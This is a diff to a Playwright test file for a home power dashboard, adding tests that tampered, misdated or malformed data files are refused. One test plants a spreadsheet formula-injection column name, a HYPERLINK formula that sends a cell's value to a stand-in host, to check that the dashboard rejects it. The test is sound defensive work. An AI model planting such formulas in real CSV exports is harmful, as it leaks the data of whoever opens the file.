@@ -3,11 +3,12 @@
 from __future__ import annotations
 
 import csv
-import hashlib
 import io
 import json
 import math
 import re
+from collections.abc import Iterator
+from contextlib import contextmanager
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -15,7 +16,7 @@ from urllib.parse import unquote
 from zoneinfo import ZoneInfo
 
 import pytest
-from playwright.sync_api import Browser, Playwright, expect
+from playwright.sync_api import Browser, Page, Playwright, expect
 
 from tests.www.browser import CHROMIUM, CHROMIUM_ARGS
 from tests.www.conftest import ARTIFACTS, WWW, OpenDashboard
@@ -260,7 +261,9 @@ def test_a_file_that_fails_its_checksum_is_ignored_with_a_visible_note(
     write_dataset(data_root, [MeterSpec()], NOW, tampered=frozenset({"house/weekly.json"}))
     opened = open_dashboard()
     show_tab(opened.page, "weekly")
-    expect(opened.page.get_by_text("house/weekly.json does not match its checksum")).to_be_visible()
+    expect(
+        opened.page.get_by_text("house/weekly.json does not match its size or checksum")
+    ).to_be_visible()
     expect(opened.page.get_by_text("No data for this week is available right now.")).to_be_visible()
     expect(opened.page.locator("#ps-main")).to_be_hidden()
 
@@ -428,11 +431,7 @@ def test_a_level_file_with_rows_out_of_order_is_not_shown_and_says_why(
     dataset = write_dataset(data_root, [MeterSpec(levels=("daily", "monthly"))], NOW)
     monthly = dataset.documents["house/monthly.json"]
     monthly["rows"][3], monthly["rows"][4] = monthly["rows"][4], monthly["rows"][3]
-    data = json.dumps(monthly).encode()
-    (data_root / "house" / "monthly.json").write_bytes(data)
-    manifest = dataset.documents["manifest.json"]
-    manifest["meters"][0]["files"]["monthly"]["sha256"] = hashlib.sha256(data).hexdigest()
-    (data_root / "manifest.json").write_text(json.dumps(manifest))
+    dataset.rewrite("house/monthly.json")
     opened = open_dashboard(url="#meter=house&level=monthly")
     expect(opened.page.get_by_text("row 5 is not in increasing order of start")).to_be_visible()
     expect(
@@ -465,6 +464,39 @@ def test_the_page_rereads_the_manifest_after_the_writers_refresh_interval(
     context.close()
 
 
+def test_a_row_starting_at_no_time_a_date_can_show_is_refused_and_the_page_reads_on(
+    data_root: Path, server: DashboardServer, browser: Browser
+) -> None:
+    # Past the year 9999 Intl has no date for it: the view threw and the polling stopped.
+    dataset = write_dataset(data_root, [MeterSpec()], NOW, refresh_seconds=600)
+    dataset.documents["house/daily.json"]["rows"][-1][0] = 10**13
+    dataset.rewrite("house/daily.json")
+    context = browser.new_context()
+    page = context.new_page()
+    page.clock.install(time=datetime.fromtimestamp(NOW, UTC))
+    page.goto(server.url)
+    dashboard = page.locator(".ps")
+    expect(page.get_by_text("starts at no time a date can show")).to_be_visible()
+    expect(dashboard).to_have_attribute("data-reads", "1")
+    page.clock.run_for(11 * 60 * 1000)
+    expect(dashboard).to_have_attribute("data-reads", "2")
+    context.close()
+
+
+def test_a_column_named_like_a_spreadsheet_formula_is_refused(
+    data_root: Path, open_dashboard: OpenDashboard
+) -> None:
+    # Its name would go into the CSV download, where a spreadsheet runs it.
+    dataset = write_dataset(data_root, [MeterSpec(levels=("daily", "monthly"))], NOW)
+    monthly = dataset.documents["house/monthly.json"]
+    monthly["columns"].append('=HYPERLINK("https://example.com/?"&A2,"Open")')
+    for row in monthly["rows"]:
+        row.append(None)
+    dataset.rewrite("house/monthly.json")
+    opened = open_dashboard(url="#meter=house&level=monthly")
+    expect(opened.page.get_by_text('"columns" is not a list of names')).to_be_visible()
+
+
 def test_the_page_asks_nothing_of_any_other_origin(
     data_root: Path, server: DashboardServer, browser: Browser
 ) -> None:
@@ -480,11 +512,10 @@ def test_the_page_asks_nothing_of_any_other_origin(
     assert [url for url in requested if not url.startswith(server.url)] == []
 
 
-def test_without_a_secure_context_the_data_shows_with_a_note_that_checksums_went_unchecked(
-    data_root: Path, server: DashboardServer, playwright: Playwright
-) -> None:
-    # Plain http to a LAN name (the board, usually) is not a secure context: no crypto.subtle.
-    write_dataset(data_root, [MeterSpec()], NOW)
+@contextmanager
+def on_a_lan_address(playwright: Playwright, server: DashboardServer) -> Iterator[Page]:
+    """The dashboard over plain http by a LAN name (the board, usually): no secure context, so
+    no crypto.subtle to check hashes with."""
     port = server.url.rsplit(":", 1)[1].strip("/")
     browser = playwright.chromium.launch(
         executable_path=CHROMIUM,
@@ -495,11 +526,30 @@ def test_without_a_secure_context_the_data_shows_with_a_note_that_checksums_went
         page.goto(f"http://powerstats.lan:{port}/")
         page.wait_for_selector(".ps[data-state='ready']")
         assert page.evaluate("window.isSecureContext") is False
+        yield page
+    finally:
+        browser.close()
+
+
+def test_without_a_secure_context_the_data_shows_with_a_note_that_checksums_went_unchecked(
+    data_root: Path, server: DashboardServer, playwright: Playwright
+) -> None:
+    write_dataset(data_root, [MeterSpec()], NOW)
+    with on_a_lan_address(playwright, server) as page:
         expect(page.get_by_text("Checksums are not verified here")).to_be_visible()
         energy = page.locator("[data-stat='energy'] .ps-card-value")
         expect(energy).to_have_attribute("data-value", re.compile(r"\d"))
-    finally:
-        browser.close()
+
+
+def test_without_a_secure_context_a_file_of_another_size_than_listed_is_still_ignored(
+    data_root: Path, server: DashboardServer, playwright: Playwright
+) -> None:
+    write_dataset(data_root, [MeterSpec()], NOW, tampered=frozenset({"house/weekly.json"}))
+    with on_a_lan_address(playwright, server) as page:
+        show_tab(page, "weekly")
+        ignored = "house/weekly.json does not match its size or checksum"
+        expect(page.get_by_text(ignored)).to_be_visible()
+        expect(page.get_by_text("No data for this week is available right now.")).to_be_visible()
 
 
 def test_a_view_partly_rebuilt_from_the_recorder_says_how_much(
